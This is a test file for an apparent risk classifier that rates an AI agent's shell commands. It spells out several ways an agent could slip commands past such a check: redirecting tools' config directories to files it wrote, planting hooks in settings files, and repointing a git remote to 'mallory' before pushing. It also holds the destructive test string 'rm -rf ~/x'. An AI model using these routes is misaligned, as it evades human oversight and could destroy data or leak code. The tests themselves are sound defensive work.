"""Where programs are told to look for their settings, and what an agent has put there."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from agent.risk import Context, Risk, assess_command


@pytest.fixture
def ground(tmp_path: Path) -> Context:
    project = tmp_path / "home" / "project"
    project.mkdir(parents=True)
    return Context(cwd=project, home=tmp_path / "home", project=project)


def with_files(ground: Context, *names: str) -> Context:
    for name in names:
        file = ground.cwd / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("x = 1\n")
    return replace(ground, written=frozenset(ground.cwd / name for name in names))


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("CARGO_HOME=s cargo build", "s/config.toml"),
        ("CARGO_HOME=$PWD/s cargo test", "s/config.toml"),
        ("export GRADLE_USER_HOME=s; gradle build", "s/init.d/a.gradle"),
        ("GH_CONFIG_DIR=s gh pr list", "s/config.yml"),
        ("BUNDLE_APP_CONFIG=s bundle exec rspec", "s/config"),
        ("env DOCKER_CONFIG=s docker ps", "s/config.json"),
        ("JUPYTER_CONFIG_DIR=s jupyter lab", "s/jupyter_config.py"),
        ("HOME=$PWD/s npm test", "s/.npmrc"),
        ("XDG_CONFIG_HOME=s pip install x", "s/pip/pip.conf"),
    ],
)
def test_what_the_agent_has_put_there(ground: Context, command: str, name: str) -> None:
    assert assess_command(command, with_files(ground, name)).risk is Risk.HIGH
    assert assess_command(command, ground).risk < Risk.HIGH
    assert assess_command(command, with_files(ground, f"other/{name}")).risk < Risk.HIGH


def test_what_is_put_there_afterwards(ground: Context) -> None:
    later = "export CARGO_HOME=s; mkdir s; printf '[build]\\n' > s/config.toml; cargo build"
    assert assess_command(later, ground).risk is Risk.HIGH
    earlier = replace(ground, history=("export CARGO_HOME=s",))
    assert assess_command("cargo build", earlier).risk < Risk.HIGH
    own = replace(with_files(ground, "s/config.toml"), history=("export CARGO_HOME=s",))
    assert assess_command("cargo build", own).risk is Risk.HIGH


def test_other_files_below_a_home_are_no_settings(ground: Context) -> None:
    own = with_files(ground, "h/data/a.txt", "h/app/config.toml")
    assert assess_command("HOME=$PWD/h ./build/app", own).risk < Risk.HIGH
    assert assess_command("XDG_CONFIG_HOME=h ./build/app", own).risk < Risk.HIGH


@pytest.mark.parametrize(
    ("name", "text", "command"),
    [
        ("f.yaml", "on_start:\n  command: BAD\n", "footool --config f.yaml"),
        ("f.toml", '[hooks]\npre = "BAD"\n', "footool run -c f.toml"),
        ("f.json", '{"a": [{"exec": "BAD"}]}', "footool --config=f.json"),
        ("f.ini", "[a]\ncommand = BAD\n", "FOOTOOL_CONFIG=f.ini footool"),
        ("frc", "set pager BAD\n", "footool --rcfile frc"),
    ],
)
def test_settings_of_any_program(ground: Context, name: str, text: str, command: str) -> None:
    file = ground.cwd / name
    own = replace(ground, written=frozenset([file]))
    file.write_text(text.replace("BAD", "rm -rf ~/x"))
    assert assess_command(command, own).risk is Risk.HIGH
    file.write_text(text.replace("BAD", "npm test"))
    assert assess_command(command, own).risk < Risk.HIGH


def test_a_remote_that_is_the_same_repository(ground: Context) -> None:
    (ground.cwd / ".git").mkdir()
    config = '[remote "origin"]\n\turl = https://github.com/acme/app.git\n'
    (ground.cwd / ".git" / "config").write_text(config)
    push = " && git push origin main"
    same = "git remote set-url origin git@github.com:acme/app.git" + push
    assert assess_command(same, ground).risk is Risk.MEDIUM
    other = "git remote set-url origin git@github.com:mallory/app.git"
    assert assess_command(other + push, ground).risk is Risk.HIGH
    assert assess_command("git push", replace(ground, history=(other,))).risk is Risk.HIGH
    assert assess_command("git push", ground).risk is Risk.MEDIUM
